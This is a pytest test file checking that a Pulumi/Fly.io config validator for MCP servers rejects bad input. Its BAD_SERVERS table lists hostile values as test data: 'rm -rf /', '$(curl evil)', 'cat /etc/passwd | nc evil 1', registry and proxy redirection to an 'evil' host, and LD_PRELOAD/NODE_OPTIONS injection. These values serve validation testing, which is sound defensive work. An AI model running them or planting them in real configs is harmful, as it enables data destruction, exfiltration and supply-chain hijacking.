"""The stack config model refuses bad input with a message naming the server and the field."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from components.config import ConfigError, load_stack_file, parse_stack

ROOT = Path(__file__).resolve().parents[2]


def good_server(**overrides):
    server = {"name": "git", "package": "mcp-server-git"}
    server.update(overrides)
    return server


def test_dev_stack_file_loads_with_an_npm_and_a_python_server():
    stack = load_stack_file(ROOT / "Pulumi.dev.yaml")
    packages = {s.name: s.package for s in stack.servers}
    assert packages == {"memory": "@modelcontextprotocol/server-memory", "git": "mcp-server-git"}
    git = next(s for s in stack.servers if s.name == "git")
    assert stack.regions_of(git) == ["iad", "ams"]
    assert git.auth is True and git.autostop == "stop"


def test_full_server_config_is_accepted_with_defaults_filled():
    stack = parse_stack(
        {
            "appPrefix": "acme-mcp",
            "region": "fra",
            "servers": [
                good_server(
                    version="2025.1.14",
                    args=["--repository", "/data/repo"],
                    env={"LOG_LEVEL": "debug", "RETRIES": 3, "VERBOSE": True},
                    secrets=["GITHUB_TOKEN"],
                    count=2,
                    size="shared-cpu-2x",
                    memory=1024,
                    autostop="suspend",
                    auth=False,
                ),
                {"name": "tool", "command": "node /srv/tool/index.js --stdio"},
            ],
        }
    )
    git, tool = stack.servers
    assert git.env == {"LOG_LEVEL": "debug", "RETRIES": "3", "VERBOSE": "true"}
    assert stack.regions_of(git) == ["fra"]
    assert stack.app_name(git, "dev", "k3x9a2b1") == "acme-mcp-git", "an explicit appPrefix is honoured as written"
    assert tool.effective_runtime == "custom" and git.effective_runtime is None


def test_memory_defaults_to_what_the_size_needs():
    stack = parse_stack({"servers": [good_server(size="performance-2x"), good_server(name="small")]})
    assert [s.memory for s in stack.servers] == [4096, 512]


def test_structured_config_arrives_as_json_text_from_pulumi():
    stack = parse_stack({"servers": json.dumps([good_server()])})
    assert stack.servers[0].package == "mcp-server-git"


def test_app_prefix_defaults_to_the_stack_name_and_the_stack_id():
    stack = parse_stack({"servers": [good_server()]})
    assert stack.app_name(stack.servers[0], "prod", "k3x9a2b1") == "catwalk-prod-k3x9a2b1-git"


def test_app_names_too_long_once_the_stack_id_is_added_are_named_before_anything_exists():
    stack = parse_stack({"servers": [good_server(name="knowledge-graph-memory")]})
    problems = stack.long_app_names("production-europe-west-one", 8)
    assert [(p.server, p.field) for p in problems] == [("knowledge-graph-memory", "name")]
    assert "<stack id>" in problems[0].error
    assert parse_stack({"appPrefix": "acme", "servers": [good_server()]}).long_app_names("production-europe", 8) == []


BAD_SERVERS = [
    # names (they become Fly app names)
    ("name-uppercase", {"name": "Git"}, "name", "not a valid name"),
    ("name-underscore", {"name": "my_server"}, "name", "not a valid name"),
    ("name-leading-digit", {"name": "1git"}, "name", "not a valid name"),
    ("name-trailing-dash", {"name": "git-"}, "name", "not a valid name"),
    ("name-double-dash", {"name": "a--b"}, "name", "not a valid name"),
    ("name-too-long", {"name": "a" * 31}, "name", "limit is 30"),
    ("name-empty", {"name": ""}, "name", "empty"),
    ("name-reserved-for-the-image-app", {"name": "images"}, "name", "reserved"),
    # what to run
    ("package-and-command", {"command": "node x.js"}, "(server)", "exactly one"),
    ("neither-package-nor-command", {"package": None}, "(server)", "exactly one"),
    ("runtime-unknown", {"runtime": "java"}, "runtime", "npm"),
    ("runtime-custom-with-package", {"runtime": "custom"}, "(server)", "runs 'command'"),
    # package specs: shell metacharacters, option injection, control chars, traversal, length
    ("package-semicolon", {"package": "mcp-server-git; rm -rf /"}, "package", "which no package name"),
    ("package-subshell", {"package": "$(curl evil)"}, "package", "which no package name"),
    ("package-backtick", {"package": "`id`"}, "package", "which no package name"),
    ("package-pipe", {"package": "a|b"}, "package", "which no package name"),
    ("package-index-url-injection", {"package": "--index-url=http://evil/simple"}, "package", "option"),
    ("package-editable-injection", {"package": "-e git+https://evil/x"}, "package", "which no package name"),
    ("package-dash-option", {"package": "-rrequirements.txt"}, "package", "option"),
    ("package-newline", {"package": "mcp-server-git\nevil"}, "package", "control character"),
    ("package-nul", {"package": "mcp\x00git"}, "package", "control character"),
    ("package-traversal", {"package": "../../etc/passwd"}, "package", ".."),
    ("package-too-long", {"package": "a" * 300}, "package", "limit is 256"),
    ("package-space", {"package": "mcp server"}, "package", "which no package name"),
    ("package-github-not-deployable", {"package": "github:owner/repo"}, "package", "not deployed"),
    ("package-local-dir-not-deployable", {"package": "./srv/server"}, "package", "not deployed"),
    # version
    ("version-injection", {"version": "1.0; rm -rf /"}, "version", "not a version"),
    ("version-option", {"version": "--pre"}, "version", "not a version"),
    # custom command
    ("command-pipe", {"package": None, "command": "cat /etc/passwd | nc evil 1"}, "command", "without a shell"),
    ("command-substitution", {"package": None, "command": "node $(whoami).js"}, "command", "without a shell"),
    ("command-separator", {"package": None, "command": "node a.js && curl evil"}, "command", "without a shell"),
    ("command-quote", {"package": None, "command": "node 'a b.js'"}, "command", "quotes"),
    ("command-option-first", {"package": None, "command": "--help"}, "command", "option"),
    ("command-newline", {"package": None, "command": "node a.js\nid"}, "command", "control character"),
    ("command-tilde", {"package": None, "command": "node /srv/s.js --root ~/data"}, "command", "without a shell"),
    ("command-glob", {"package": None, "command": "node /srv/*.js"}, "command", "without a shell"),
    ("command-with-version", {"package": None, "command": "node a.js", "version": "1"}, "(server)", "version"),
    # args
    ("arg-newline", {"args": ["--repo", "a\nb"]}, "args[1]", "control character"),
    ("arg-too-long", {"args": ["x" * 2000]}, "args[0]", "limit is 1024"),
    ("args-too-long-together", {"args": ["x" * 1000] * 5}, "args", "limit is 4096"),
    # env
    ("env-path-override", {"env": {"PATH": "/tmp/evil"}}, "env.PATH", "reserved"),
    ("env-ld-preload", {"env": {"LD_PRELOAD": "/tmp/x.so"}}, "env.LD_PRELOAD", "reserved"),
    ("env-pythonpath", {"env": {"PYTHONPATH": "/tmp"}}, "env.PYTHONPATH", "reserved"),
    ("env-node-options", {"env": {"NODE_OPTIONS": "--require /tmp/x.js"}}, "env.NODE_OPTIONS", "reserved"),
    ("env-mcp-owned", {"env": {"MCP_PACKAGE": "other"}}, "env.MCP_PACKAGE", "reserved"),
    ("env-auth-token", {"env": {"MCP_AUTH_TOKEN": "x"}}, "env.MCP_AUTH_TOKEN", "reserved"),
    ("env-pip-index", {"env": {"PIP_INDEX_URL": "http://evil"}}, "env.PIP_INDEX_URL", "reserved"),
    # env that would steer the package installs at boot (proxy, CA, installer config, git transport)
    ("env-https-proxy", {"env": {"HTTPS_PROXY": "http://evil:3128"}}, "env.HTTPS_PROXY", "redirect"),
    ("env-lowercase-proxy", {"env": {"http_proxy": "http://evil:3128"}}, "env.http_proxy", "redirect"),
    ("env-no-proxy", {"env": {"NO_PROXY": "*"}}, "env.NO_PROXY", "redirect"),
    ("env-all-proxy", {"env": {"ALL_PROXY": "socks5://evil"}}, "env.ALL_PROXY", "redirect"),
    (
        "env-node-tls-off",
        {"env": {"NODE_TLS_REJECT_UNAUTHORIZED": "0"}},
        "env.NODE_TLS_REJECT_UNAUTHORIZED",
        "redirect",
    ),
    ("env-ca-bundle", {"env": {"CURL_CA_BUNDLE": "/tmp/ca.pem"}}, "env.CURL_CA_BUNDLE", "redirect"),
    ("env-git-config", {"env": {"GIT_CONFIG_COUNT": "1"}}, "env.GIT_CONFIG_COUNT", "redirect"),
    ("env-git-ssh-command", {"env": {"GIT_SSH_COMMAND": "sh -c id"}}, "env.GIT_SSH_COMMAND", "redirect"),
    (
        "env-npm-config-lowercase",
        {"env": {"npm_config_registry": "http://evil"}},
        "env.npm_config_registry",
        "redirect",
    ),
    ("env-yarn-registry", {"env": {"YARN_REGISTRY": "http://evil"}}, "env.YARN_REGISTRY", "redirect"),
    ("env-uv-index", {"env": {"UV_INDEX_URL": "http://evil"}}, "env.UV_INDEX_URL", "redirect"),
    ("env-xdg-config", {"env": {"XDG_CONFIG_HOME": "/tmp/cfg"}}, "env.XDG_CONFIG_HOME", "redirect"),
    ("secret-https-proxy", {"secrets": ["HTTPS_PROXY"]}, "secrets[0]", "redirect"),
    ("env-invalid-name", {"env": {"1BAD": "x"}}, "env.1BAD", "not a valid environment variable"),
    ("env-name-with-dash", {"env": {"BAD-NAME": "x"}}, "env.BAD-NAME", "not a valid environment variable"),
    ("env-value-newline", {"env": {"GREETING": "a\nb"}}, "env.GREETING", "control character"),
    ("env-secret-in-plain", {"env": {"GITHUB_TOKEN": "ghp_x"}}, "env.GITHUB_TOKEN", "secret"),
    ("env-nested-value", {"env": {"A": {"b": 1}}}, "env.A", "string"),
    # secrets
    ("secret-reserved", {"secrets": ["LD_PRELOAD"]}, "secrets[0]", "reserved"),
    ("secret-invalid", {"secrets": ["my token"]}, "secrets[0]", "not a valid environment variable"),
    ("secret-duplicate", {"secrets": ["A_KEY", "A_KEY"]}, "secrets", "more than once"),
    ("secret-aliases-the-fly-token", {"secrets": ["flyApiToken"]}, "secrets", "stack setting"),
    ("secret-aliases-a-setting", {"secrets": ["REGION"]}, "secrets", "stack setting"),
    ("secret-also-env", {"env": {"REGION_NAME": "x"}, "secrets": ["REGION_NAME"]}, "(server)", "both"),
    # placement and size
    ("region-unknown", {"regions": ["iaad"]}, "regions[0]", "not a Fly.io region"),
    ("regions-empty", {"regions": []}, "regions", "empty"),
    ("regions-duplicate", {"regions": ["iad", "iad"]}, "regions", "more than once"),
    ("count-zero", {"count": 0}, "count", "greater than or equal to 1"),
    ("count-huge", {"count": 1000}, "count", "less than or equal to 10"),
    ("size-unknown", {"size": "huge"}, "size", "not a Fly machine size"),
    ("memory-odd", {"memory": 300}, "memory", "multiple of 256"),
    ("memory-tiny", {"memory": 128}, "memory", "greater than or equal to 256"),
    ("memory-too-big-for-size", {"memory": 4096}, "memory", "does not fit size shared-cpu-1x"),
    ("memory-too-small-for-size", {"size": "performance-1x", "memory": 1024}, "memory", "from 2048"),
    ("autostop-unknown", {"autostop": "sometimes"}, "autostop", "off"),
    ("auth-not-bool", {"auth": "maybe"}, "auth", "boolean"),
    ("fallback-unknown", {"fallback": "latest"}, "fallback", "'fail' or 'newest'"),
    ("unknown-field-typo", {"pacakge": "x"}, "pacakge", "did you mean 'package'"),
]


@pytest.mark.parametrize(
    ("overrides", "field", "fragment"), [c[1:] for c in BAD_SERVERS], ids=[c[0] for c in BAD_SERVERS]
)
def test_bad_server_config_is_refused_naming_server_and_field(overrides, field, fragment):
    server = good_server(**overrides)
    server = {k: v for k, v in server.items() if v is not None}
    with pytest.raises(ConfigError) as caught:
        parse_stack({"servers": [{"name": "ok", "package": "mcp-server-time"}, server]})
    problems = caught.value.problems
    name = server.get("name") or "#2"
    matching = [p for p in problems if p.field == field]
    assert matching, f"no problem for field {field!r}: {[str(p) for p in problems]}"
    assert all(p.server == name for p in problems), [str(p) for p in problems]
    assert any(fragment.lower() in p.error.lower() for p in matching), [str(p) for p in matching]


def test_every_problem_is_reported_at_once():
    with pytest.raises(ConfigError) as caught:
        parse_stack(
            {
                "region": "nowhere",
                "servers": [
                    good_server(name="A"),
                    good_server(name="b", env={"PATH": "/x", "LD_LIBRARY_PATH": "/y"}, count=0),
                ],
            }
        )
    fields = {(p.server, p.field) for p in caught.value.problems}
    assert fields == {
        (None, "region"),
        ("A", "name"),
        ("b", "env.PATH"),
        ("b", "env.LD_LIBRARY_PATH"),
        ("b", "count"),
    }


@pytest.mark.parametrize(
    ("values", "field", "fragment"),
    [
        ({"servers": [good_server(), good_server()]}, "servers", "unique"),
        ({"appPrefix": "Acme_MCP", "servers": []}, "appPrefix", "not a valid name"),
        ({"image": "registry.fly.io/app:latest; rm", "servers": []}, "image", "not an image reference"),
        ({"org": "--org=evil", "servers": []}, "org", "option"),
        ({"regoin": "iad", "servers": []}, "regoin", "did you mean 'region'"),
        ({"servers": "not json ["}, "servers", "not valid JSON"),
        ({"flyApiToken": "fo1_plain", "servers": []}, "flyApiToken", "must be a secret"),
        ({"flyApiUrl": "ftp://x y", "servers": []}, "flyApiUrl", "must be an https:// URL"),
        ({"flyApiUrl": "http://fly.example.com", "servers": []}, "flyApiUrl", "plain http only to a loopback"),
    ],
)
def test_bad_stack_keys_are_refused_naming_the_key(values, field, fragment):
    with pytest.raises(ConfigError) as caught:
        parse_stack(values)
    matching = [p for p in caught.value.problems if p.field == field and p.server is None]
    assert matching and fragment.lower() in matching[0].error.lower(), [str(p) for p in caught.value.problems]


def write_stack(tmp_path: Path, config: dict) -> Path:
    path = tmp_path / "Pulumi.t.yaml"
    path.write_text(yaml.safe_dump({"config": config}))
    return path


def test_listed_secret_without_a_value_is_reported(tmp_path):
    path = write_stack(
        tmp_path,
        {
            "catwalk:servers": [good_server(secrets=["GITHUB_TOKEN", "OTHER_KEY"])],
            "catwalk:git.GITHUB_TOKEN": {"secure": "v1:abc"},
        },
    )
    with pytest.raises(ConfigError) as caught:
        load_stack_file(path)
    assert [(p.server, p.field) for p in caught.value.problems] == [("git", "secrets.OTHER_KEY")]
    assert "pulumi config set --secret git.OTHER_KEY" in caught.value.problems[0].error


def test_secret_values_in_the_stack_file_are_not_settings(tmp_path):
    path = write_stack(
        tmp_path,
        {
            "catwalk:servers": [good_server(secrets=["GITHUB_TOKEN"])],
            "catwalk:GITHUB_TOKEN": {"secure": "v1:abc"},
            "aws:region": "x",
            "catwalk:flyApiToken": {"secure": "v1:def"},
        },
    )
    assert load_stack_file(path).servers[0].secrets == ["GITHUB_TOKEN"]


def run_cli(*args: str, cwd: Path = ROOT) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "infra.cli", *args], cwd=cwd, capture_output=True, text=True, timeout=60
    )


def test_validate_cli_accepts_the_dev_stack():
    result = run_cli("validate", "Pulumi.dev.yaml")
    assert result.returncode == 0, result.stderr
    assert "valid: 2 server(s)" in result.stdout


def test_validate_cli_names_the_bad_server_and_exits_1(tmp_path):
    path = write_stack(tmp_path, {"catwalk:servers": [good_server(), good_server(name="evil", package="x;id")]})
    result = run_cli("validate", str(path))
    assert result.returncode == 1
    assert result.stderr.strip().splitlines() == [
        "server 'evil': package: package spec contains ';', which no package name or version has: 'x;id'"
    ]


def test_validate_cli_json_lists_server_field_and_error(tmp_path):
    path = write_stack(tmp_path, {"catwalk:servers": [good_server(name="Bad", count=0)]})
    result = run_cli("validate", str(path), "--json")
    assert result.returncode == 1
    problems = json.loads(result.stdout)
    assert {(p["server"], p["field"]) for p in problems} == {("Bad", "name"), ("Bad", "count")}
    assert all(set(p) == {"server", "field", "error"} for p in problems)


def test_validate_cli_uses_the_current_stack_file(tmp_path):
    write_stack(tmp_path, {"catwalk:servers": [good_server()]})
    result = run_cli("validate", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert "Pulumi.t.yaml: valid: 1 server(s)" in result.stdout


def test_components_import_from_the_repo_root():
    result = subprocess.run([sys.executable, "-c", "import components, infra.cli"], cwd=ROOT, timeout=60)
    assert result.returncode == 0


def test_every_stack_setting_is_reserved_from_secret_names():
    from components.config import RESERVED_CONFIG_KEYS, STACK_KEYS

    assert set(STACK_KEYS) <= RESERVED_CONFIG_KEYS


def test_a_secret_servers_key_is_read_not_skipped():
    # `pulumi config set --secret --path 'catwalk:servers[0].env.X'` makes the whole key secret.
    stack = parse_stack({"servers": [good_server(env={"API_BASE": "https://h"})]}, {"servers"})
    assert [s.name for s in stack.servers] == ["git"]
    assert stack.servers[0].env == {"API_BASE": "https://h"}


@pytest.mark.parametrize(
    ("key", "raw", "attribute", "expected"),
    [
        ("appPrefix", "acme-mcp", "app_prefix", "acme-mcp"),
        ("region", "fra", "region", "fra"),
        ("image", "registry.fly.io/base:v2", "image", "registry.fly.io/base:v2"),
        ("flyApiUrl", "https://fly.internal.example", "fly_api_url", "https://fly.internal.example"),
    ],
)
def test_a_secret_stack_setting_is_used(key, raw, attribute, expected):
    stack = parse_stack({key: raw, "servers": []}, {key})
    assert getattr(stack, attribute) == expected


def test_a_secret_setting_is_still_validated_naming_the_key():
    with pytest.raises(ConfigError) as caught:
        parse_stack({"region": "nowhere", "servers": []}, {"region"})
    assert [p.field for p in caught.value.problems] == ["region"]


def test_stack_file_with_a_nested_secure_value_validates_the_rest_of_servers(tmp_path):
    path = write_stack(
        tmp_path,
        {"catwalk:servers": [good_server(env={"API_BASE": {"secure": "v1:abc"}}, count=0)]},
    )
    with pytest.raises(ConfigError) as caught:
        load_stack_file(path)
    assert [(p.server, p.field) for p in caught.value.problems] == [("git", "count")]
    fixed = write_stack(tmp_path, {"catwalk:servers": [good_server(env={"API_BASE": {"secure": "v1:abc"}})]})
    assert [s.name for s in load_stack_file(fixed).servers] == ["git"]


def test_stack_file_with_a_whole_setting_encrypted_names_it_instead_of_reading_it_as_absent(tmp_path):
    path = write_stack(tmp_path, {"catwalk:servers": {"secure": "v1:abc"}, "catwalk:appPrefix": {"secure": "v1:d"}})
    with pytest.raises(ConfigError) as caught:
        load_stack_file(path)
    assert sorted(p.field for p in caught.value.problems) == ["appPrefix", "servers"]
    assert "cannot decrypt it offline" in caught.value.problems[0].error


def test_env_that_only_names_a_tool_is_not_taken_for_installer_settings():
    env = {"NODE_ENV": "production", "GIT_AUTHOR_NAME": "bot", "PROXY_MODE": "off", "LOG_LEVEL": "debug"}
    stack = parse_stack({"servers": [good_server(env=env)]})
    assert stack.servers[0].env == env


def test_the_newest_dependencies_fallback_is_an_opt_in():
    stack = parse_stack({"servers": [good_server(), good_server(name="old", fallback="newest")]})
    assert [s.fallback for s in stack.servers] == ["fail", "newest"]


@pytest.mark.parametrize("url", ["https://api.machines.dev", "http://127.0.0.1:4280", "http://localhost:4280"])
def test_fly_api_url_is_https_or_plain_http_to_loopback(url):
    assert parse_stack({"flyApiUrl": url, "servers": []}).fly_api_url == url
